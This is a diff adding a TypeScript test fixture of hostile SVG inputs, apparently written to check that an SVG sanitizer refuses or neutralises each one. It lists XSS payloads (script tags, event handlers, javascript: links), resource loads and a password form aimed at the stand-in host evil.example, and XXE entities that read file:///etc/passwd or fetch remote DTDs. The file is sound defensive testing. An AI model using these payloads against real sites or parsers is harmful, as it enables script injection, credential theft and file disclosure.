@@ -1,0 +1,175 @@
+/**
+ * Pictures as an attacker writes them. Each is refused, or harmless as it is written anew. The inner ones stand in a whole
+ * picture of their own; the last ones try the document itself.
+ */
+const HOST = 'https://evil.example';
+const NS =
+  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"';
+const svg = (inner: string, attributes = '') =>
+  `<svg ${NS} viewBox="0 0 40 40" ${attributes}>${inner}<rect width="9" height="9"/></svg>`;
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+
+const SCRIPTS = [
+  '<script>alert(1)</script>',
+  '<script type="text/ecmascript">alert(1)</script>',
+  '<script><![CDATA[alert(1)]]></script>',
+  `<script href="${HOST}/x.js"/>`,
+  `<script xlink:href="${HOST}/x.js"/>`,
+  '<script xlink:href="data:text/javascript,alert(1)"/>',
+  '<h:script>alert(1)</h:script>',
+  '<defs><script>alert(1)</script></defs>',
+  '<g><title><script>alert(1)</script></title></g>',
+  '<desc><script>alert(1)</script></desc>',
+  '<text><tspan><script>alert(1)</script></tspan></text>',
+  '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
+  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
+  '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>',
+];
+
+const HANDLERS = [
+  'onload',
+  'onLoad',
+  'onclick',
+  'onmouseover',
+  'onfocusin',
+  'onactivate',
+  'onbegin',
+  'onend',
+  'onrepeat',
+  'onerror',
+  'onunload',
+  'onresize',
+  'onscroll',
+  'onpointerenter',
+  'onanimationstart',
+].flatMap((name) => [`<rect ${name}="alert(1)" width="40" height="40"/>`]);
+
+const LINKS = [
+  '<a href="javascript:alert(1)"><rect width="40" height="40"/></a>',
+  '<a xlink:href="javascript:alert(1)"><rect width="40" height="40"/></a>',
+  '<a href="JaVa&#x09;ScRiPt:alert(1)"><rect width="40" height="40"/></a>',
+  '<a href="&#106;avascript:alert(1)"><rect width="40" height="40"/></a>',
+  `<a href="data:text/html;base64,${base64('<script>alert(1)</script>')}"><rect width="9" height="9"/></a>`,
+  `<a href="${HOST}" target="_top"><rect width="9" height="9"/></a>`,
+  '<use href="javascript:alert(1)"/>',
+  `<use href="data:image/svg+xml;base64,${base64(svg('<script>alert(1)</script>', 'id="x"'))}#x"/>`,
+  `<use xlink:href="${HOST}/a.svg#x"/>`,
+  '<use href="//evil.example/a.svg#x"/>',
+  '<use href="/a.svg#x"/>',
+  '<use href=" #x " onclick="alert(1)"/>',
+  `<image href="${HOST}/a.png" width="9" height="9"/>`,
+  `<image xlink:href="${HOST}/a.png" width="9" height="9"/>`,
+  `<image href="data:image/svg+xml;base64,${base64(svg('', 'onload="alert(1)"'))}" width="9" height="9"/>`,
+  `<image href="x" onerror="alert(1)" width="9" height="9"/>`,
+  `<feImage href="${HOST}/a.png"/>`,
+  `<filter id="f"><feImage xlink:href="${HOST}/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
+  `<linearGradient id="g" xlink:href="${HOST}/a.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`,
+  `<pattern id="p" href="${HOST}/a.svg#p"/><rect fill="url(#p)" width="9" height="9"/>`,
+  `<textPath href="${HOST}/a.svg#p">x</textPath>`,
+  `<mpath href="${HOST}/a.svg#p"/>`,
+  `<cursor href="${HOST}/a.cur"/>`,
+  `<font-face><font-face-src><font-face-uri href="${HOST}/a.woff"/></font-face-src></font-face>`,
+  `<color-profile name="x" href="${HOST}/a.icc"/>`,
+  `<glyphRef href="${HOST}/a.svg#x"/>`,
+  `<tref href="${HOST}/a.svg#x"/>`,
+  `<video href="${HOST}/a.mp4"/>`,
+  `<h:video src="${HOST}/a.mp4" autoplay="autoplay" onerror="alert(1)"/>`,
+  `<audio xmlns="http://www.w3.org/1999/xhtml" src="${HOST}/a.mp3" onerror="alert(1)"/>`,
+];
+
+const STYLES = [
+  `<style>@import "${HOST}/a.css";</style>`,
+  `<style>@import url(${HOST}/a.css);</style>`,
+  `<style>*{background:url(${HOST}/a.png)}</style>`,
+  `<style>.a{fill:url(${HOST}/a.svg#x)}</style><rect class="a" width="9" height="9"/>`,
+  `<style>.a{fill:\\75rl(${HOST}/a.svg#x)}</style><rect class="a" width="9" height="9"/>`,
+  `<style>.a{mask:url("${HOST}/a.svg#x")}</style><g class="a"><rect width="9" height="9"/></g>`,
+  `<style>.a{filter:url(${HOST}/a.svg#x)}</style><rect class="a" width="9" height="9"/>`,
+  `<style>.a{fill:image-set("${HOST}/a.png" 1x)}</style><rect class="a" width="9" height="9"/>`,
+  `<style>.a{fill:var(--x,url(${HOST}/a.svg#x));--x:url(${HOST}/b.svg#x)}</style><rect class="a" width="9" height="9"/>`,
+  `<style>@font-face{font-family:x;src:url(${HOST}/a.woff2)}.a{font-family:x}</style><text class="a">x</text>`,
+  `<style><![CDATA[.a{fill:red}</style><script>alert(1)</script>]]></style>`,
+  `<style>.a{font-family:"</style><script>alert(1)</script>"}</style><text class="a">x</text>`,
+  `<style>.a{font-family:'" onload="alert(1)'}</style><text class="a">x</text>`,
+  `<rect style="fill:url(${HOST}/a.svg#x)" width="9" height="9"/>`,
+  `<rect style="background:url(${HOST}/a.png)" width="9" height="9"/>`,
+  `<rect style="fill:u/**/rl(${HOST}/a.svg#x)" width="9" height="9"/>`,
+  `<rect style="-moz-binding:url(${HOST}/x.xml#y);behavior:url(x.htc)" width="9" height="9"/>`,
+  `<rect style="filter:url('data:image/svg+xml,x#y')" width="9" height="9"/>`,
+  `<rect fill="url(${HOST}/a.svg#x)" width="9" height="9"/>`,
+  `<rect fill="url('//evil.example/a.svg#x') red" width="9" height="9"/>`,
+  `<rect fill="URL(${HOST}/a.svg#x)" width="9" height="9"/>`,
+  `<rect fill="\\75\\72\\6c(${HOST}/a.svg#x)" width="9" height="9"/>`,
+  `<rect clip-path="url(${HOST}/a.svg#x)" width="9" height="9"/>`,
+  `<path marker-start="url(${HOST}/a.svg#x)" d="M0 0h9"/>`,
+  `<rect fill="red&quot; onload=&quot;alert(1)" width="9" height="9"/>`,
+  `<rect id="x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" width="9" height="9"/>`,
+  `<rect fill="src('${HOST}/a.png')" width="9" height="9"/>`,
+];
+
+const MOTION = [
+  '<animate attributeName="href" values="javascript:alert(1)"/>',
+  '<a><animate attributeName="href" to="javascript:alert(1)" begin="0s"/><rect width="40" height="40"/></a>',
+  '<set attributeName="onload" to="alert(1)"/>',
+  `<set attributeName="xlink:href" to="${HOST}/a.svg"/>`,
+  '<animate attributeName="x" onbegin="alert(1)" dur="1s"/>',
+  '<animateTransform attributeName="transform" onend="alert(1)" dur="1ms"/>',
+  '<animateMotion onrepeat="alert(1)" dur="1ms" repeatCount="9"/>',
+  '<discard href="#x"/>',
+];
+
+const FOREIGN = [
+  '<foreignObject width="9" height="9"><h:img src="x" onerror="alert(1)"/></foreignObject>',
+  `<foreignObject width="9" height="9"><h:iframe src="${HOST}"/></foreignObject>`,
+  `<foreignObject><h:form action="${HOST}"><h:input name="password" type="password"/></h:form></foreignObject>`,
+  '<foreignObject><h:style>*{display:none}</h:style></foreignObject>',
+  `<foreignObject><h:link rel="stylesheet" href="${HOST}/a.css"/></foreignObject>`,
+  `<foreignObject><h:meta http-equiv="refresh" content="0;url=${HOST}"/></foreignObject>`,
+  `<foreignObject><h:base href="${HOST}/"/></foreignObject>`,
+  `<foreignObject><h:object data="${HOST}/a.swf"/></foreignObject>`,
+  '<h:img src="x" onerror="alert(1)"/>',
+  `<h:iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>`,
+  `<iframe src="${HOST}"/>`,
+  `<embed src="${HOST}"/>`,
+  '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
+  '<title><h:img src="x" onerror="alert(1)"/></title>',
+  '<desc>&lt;/desc&gt;&lt;script&gt;alert(1)&lt;/script&gt;</desc>',
+  '<title>&lt;img src=x onerror=alert(1)&gt;</title>',
+  '<text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>',
+  '<text><![CDATA[</text><script>alert(1)</script>]]></text>',
+  '<title><![CDATA[</title></svg><script>alert(1)</script>]]></title>',
+];
+
+const DOCUMENTS = [
+  svg('', 'onload="alert(1)"'),
+  svg('', 'ONLOAD="alert(1)"'),
+  svg('', `style="background:url(${HOST}/a.png)"`),
+  svg('', `xml:base="${HOST}/"`),
+  `<?xml version="1.0"?><?xml-stylesheet href="${HOST}/a.css"?>${svg('')}`,
+  `<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${base64('<x/>')}"?>${svg('')}`,
+  `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg('&x;')}`,
+  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
+  `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${HOST}/a.dtd">%x;]>${svg('')}`,
+  `<!DOCTYPE svg SYSTEM "${HOST}/a.dtd">${svg('')}`,
+  `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>${svg('<text>&c;</text>')}`,
+  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg('')}`,
+  `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script>',
+  `<svg><p id="</svg><script>alert(1)</script>"/></svg>`,
+  `</svg><script>alert(1)</script>${svg('')}`,
+  `${svg('')}<script>alert(1)</script>`,
+  `${svg('')}<!-- --><img src="x" onerror="alert(1)"/>`,
+  `\uFEFF${svg('<script>alert(1)</script>')}`,
+  `<SVG ${NS}><SCRIPT>alert(1)</SCRIPT></SVG>`,
+  svg('<svg onload="alert(1)"><script>alert(1)</script></svg>'),
+  svg('<symbol id="s" onload="alert(1)"><script>alert(1)</script></symbol><use href="#s"/>'),
+  svg('<g id="a"><use href="#a"/></g>'),
+  svg('<!-- --!><script>alert(1)</script> -->'),
+  svg('<rect id="constructor" width="9" height="9"/><rect id="config" width="9" height="9"/>'),
+];
+
+export const HOSTILE_SVG: readonly string[] = [
+  ...[SCRIPTS, HANDLERS, LINKS, STYLES, MOTION, FOREIGN].flat().map((inner) => svg(inner)),
+  ...DOCUMENTS,
+];
